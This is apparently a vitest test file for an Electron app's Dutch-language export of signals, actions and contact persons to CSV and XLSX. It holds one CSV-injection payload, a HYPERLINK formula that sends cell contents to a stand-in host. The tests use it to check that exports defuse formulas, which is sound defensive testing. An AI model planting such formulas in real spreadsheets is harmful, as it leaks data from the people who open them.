import fs from 'node:fs';
import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createAction } from '../../electron/services/actions/writes';
import { exportList, exportTarget } from '../../electron/services/listExport';
import { createSignal } from '../../electron/services/signals/writes';
import { listSignals } from '../../electron/services/signals/reads';
import { verifyCaseFileAt } from '../../electron/services/verify';
import { signalListQuerySchema } from '../../shared/domain/signal';
import { PASSPHRASE } from '../support/caseFiles';
import { runEss } from '../support/cli';
import { insertTestSignal } from '../support/caseFixtures';
import { insertTestPerson, newAction } from '../support/contactMoments';
import { openSignalFixture, signalDraft, type SignalFixture } from '../support/signals';
import { tempDir } from '../support/tempDir';

let fixture: SignalFixture;
let open = false;
let outDir: string;
beforeEach(() => {
  fixture = openSignalFixture();
  open = true;
  outDir = tempDir();
});
afterEach(() => {
  if (open) fixture.close();
});

const EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1;"Klik")';

/** The CSV as Excel reads it: BOM, then ';'-separated records. */
function readCsv(file: string): string[][] {
  const text = fs.readFileSync(file, 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
}

/** The first sheet's cells as text, row by row (shared or inline strings; numbers and dates as stored). */
function readXlsx(file: string): { rows: string[][]; formulas: number; sheetXml: string } {
  const zip = unzipSync(new Uint8Array(fs.readFileSync(file)));
  const sheetXml = strFromU8(zip['xl/worksheets/sheet1.xml']!);
  const shared = zip['xl/sharedStrings.xml']
    ? [...strFromU8(zip['xl/sharedStrings.xml']).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => textOf(m[1]!))
    : [];
  const rows = [...sheetXml.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
    [...row[1]!.matchAll(/<c ([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map(([, attributes, body = '']) => {
      if (/t="s"/.test(attributes!)) return shared[Number(/<v>(.*?)<\/v>/.exec(body)![1])]!;
      if (/t="inlineStr"/.test(attributes!)) return textOf(body);
      return unescapeXml(/<v>(.*?)<\/v>/.exec(body)?.[1] ?? '');
    }),
  );
  return { rows, formulas: (sheetXml.match(/<f[ >]/g) ?? []).length, sheetXml };
}
const unescapeXml = (text: string) =>
  text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
const textOf = (xml: string) => unescapeXml([...xml.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) => m[1]).join(''));

describe('exporting the signals list', () => {
  it('writes the filtered, sorted list to CSV for Dutch Excel: BOM, semicolons, Dutch headers, labels and dates, formulas as text', async () => {
    createSignal(fixture.ctx, signalDraft({ title: 'Rustig', urgency: 'laag' }));
    createSignal(fixture.ctx, signalDraft({ title: EVIL, urgency: 'hoog', observedOn: '2026-03-02', receivedOn: '2026-03-03' }));
    createSignal(fixture.ctx, signalDraft({ title: 'Geëscaleerde bijeenkomst, ‘s avonds; met "quotes"', urgency: 'acuut' }));
    const query = signalListQuerySchema.parse({ filters: { urgencies: ['hoog', 'acuut'] }, sort: { column: 'number', direction: 'desc' } });
    const outPath = path.join(outDir, 'signalen.csv');
    const result = await exportList(
      fixture.ctx,
      { list: 'signals', query, format: 'csv', columns: ['number', 'title', 'receivedOn', 'urgency', 'status', 'themes', 'municipalities'] },
      { outPath, overwrite: false },
    );
    expect(result).toEqual({ path: outPath, rows: 2 });
    const rows = readCsv(outPath);
    expect(rows[0]).toEqual(['Nummer', 'Titel', 'Ontvangen op', 'Urgentie', 'Status', 'Thema’s', 'Gemeenten']);
    expect(rows.slice(1)).toEqual([
      ['SIG-2026-0003', 'Geëscaleerde bijeenkomst, ‘s avonds; met "quotes"', '11-03-2026', 'Acuut', 'Nieuw', 'Polarisatie', 'Amsterdam'],
      ['SIG-2026-0002', `'${EVIL}`, '03-03-2026', 'Hoog', 'Nieuw', 'Polarisatie', 'Amsterdam'],
    ]);
    // No temporary file is left beside it.
    expect(fs.readdirSync(outDir)).toEqual(['signalen.csv']);
  });

  it('writes XLSX with text in string cells (never a formula) and real dates', async () => {
    createSignal(fixture.ctx, signalDraft({ title: EVIL, urgency: 'hoog', receivedOn: '2026-03-03', observedOn: '2026-03-02' }));
    const outPath = path.join(outDir, 'signalen.xlsx');
    const result = await exportList(fixture.ctx, { list: 'signals', query: {}, format: 'xlsx' }, { outPath, overwrite: false });
    expect(result.rows).toBe(1);
    const { rows, formulas } = readXlsx(outPath);
    expect(formulas).toBe(0);
    expect(rows[0]!.slice(0, 4)).toEqual(['Nummer', 'Titel', 'Ontvangen op', 'Waargenomen op']);
    expect(rows[1]![0]).toBe('SIG-2026-0001');
    expect(rows[1]![1]).toBe(EVIL);
    // 3 March 2026 as an Excel serial date (days since 30-12-1899).
    expect(rows[1]![2]).toBe(String((Date.UTC(2026, 2, 3) - Date.UTC(1899, 11, 30)) / 86_400_000));
  });

  it('exports every matching row, not one page, in the list order', async () => {
    fixture.db.transaction(() => {
      for (let n = 0; n < 2_150; n += 1) insertTestSignal(fixture.db, { title: `Signaal ${n}`, receivedOn: n % 2 ? '2026-02-01' : '2026-03-01' });
    })();
    const outPath = path.join(outDir, 'alles.csv');
    const query = { filters: {}, sort: { column: 'receivedOn', direction: 'asc' } } as const;
    const result = await exportList(fixture.ctx, { list: 'signals', query, format: 'csv', columns: ['number'] }, { outPath, overwrite: false, pageSize: 500 });
    expect(result.rows).toBe(2_150);
    const numbers = readCsv(outPath).slice(1).map((row) => row[0]);
    const expected: string[] = [];
    const parsed = signalListQuerySchema.parse(query);
    for (let offset = 0; offset < 2_150; offset += 200) {
      expected.push(...listSignals(fixture.db, { ...parsed, page: { offset, limit: 200 } }).rows.map((row) => row.number));
    }
    expect(numbers).toEqual(expected);
  });

  it('never replaces an existing file unless asked, and adds the extension a bare name lacks', async () => {
    const outPath = path.join(outDir, 'bestaat.csv');
    fs.writeFileSync(outPath, 'oud');
    await expect(exportList(fixture.ctx, { list: 'signals', query: {}, format: 'csv' }, { outPath, overwrite: false })).rejects.toMatchObject({
      code: 'FILE_EXISTS',
    });
    expect(fs.readFileSync(outPath, 'utf8')).toBe('oud');
    expect(exportTarget('/tmp/lijst', 'xlsx')).toEqual({ path: '/tmp/lijst.xlsx', overwrite: false });
    expect(exportTarget('/tmp/lijst.CSV', 'csv')).toEqual({ path: '/tmp/lijst.CSV', overwrite: true });
  });
});

describe('exporting other lists', () => {
  it('exports follow-up actions with Dutch labels, and contact persons with an export entry in each person’s history', async () => {
    createAction(fixture.ctx, newAction({ description: '@Bellen', kind: 'advies', dueOn: '2026-03-20' }));
    const actionsPath = path.join(outDir, 'acties.csv');
    await exportList(fixture.ctx, { list: 'actions', query: {}, format: 'csv' }, { outPath: actionsPath, overwrite: false });
    const actionRows = readCsv(actionsPath);
    expect(actionRows[0]).toEqual(['Nummer', 'Omschrijving', 'Soort actie', 'Status', 'Uiterlijk', 'Eigenaar', 'Volgt uit', 'Laatst gewijzigd']);
    expect(actionRows[1]!.slice(0, 5)).toEqual(['ACT-2026-0001', "'@Bellen", 'Advies', 'Open', '20-03-2026']);

    const person = insertTestPerson(fixture.db, 'Fictieve Persoon');
    const personsPath = path.join(outDir, 'personen.xlsx');
    await exportList(
      fixture.ctx,
      { list: 'contactPersons', query: {}, format: 'xlsx', columns: ['name', 'role'] },
      { outPath: personsPath, overwrite: false },
    );
    expect(readXlsx(personsPath).rows).toEqual([['Naam', 'Rol'], ['Fictieve Persoon', expect.any(String)]]);
    const entries = fixture.db
      .prepare(`SELECT action FROM audit_log WHERE entity = 'contactPerson' AND entity_id = ? ORDER BY seq`)
      .all(person.id) as { action: string }[];
    expect(entries.at(-1)).toEqual({ action: 'export' });
    fixture.close();
    open = false;
    expect(verifyCaseFileAt(fixture.filePath, PASSPHRASE).ok).toBe(true);
  });
});

describe('ess export', () => {
  it('writes the signals list with the same service, and never over an existing file', () => {
    createSignal(fixture.ctx, signalDraft({ title: 'Onrust na de wedstrijd' }));
    createSignal(fixture.ctx, signalDraft({ title: EVIL }));
    fixture.close();
    open = false;
    const env = { ESS_PASSPHRASE: PASSPHRASE };
    const outPath = path.join(outDir, 'cli');
    const run = runEss(['export', 'signals', fixture.filePath, '--out', outPath, '--format', 'csv'], env);
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain(`2 rows written to ${outPath}.csv`);
    const rows = readCsv(`${outPath}.csv`);
    expect(rows.map((row) => row[1])).toEqual(['Titel', `'${EVIL}`, 'Onrust na de wedstrijd']);
    const again = runEss(['export', 'signals', fixture.filePath, '--out', `${outPath}.csv`], env);
    expect(again.status).not.toBe(0);
    expect(again.stderr).toContain('already exists');
  });
});
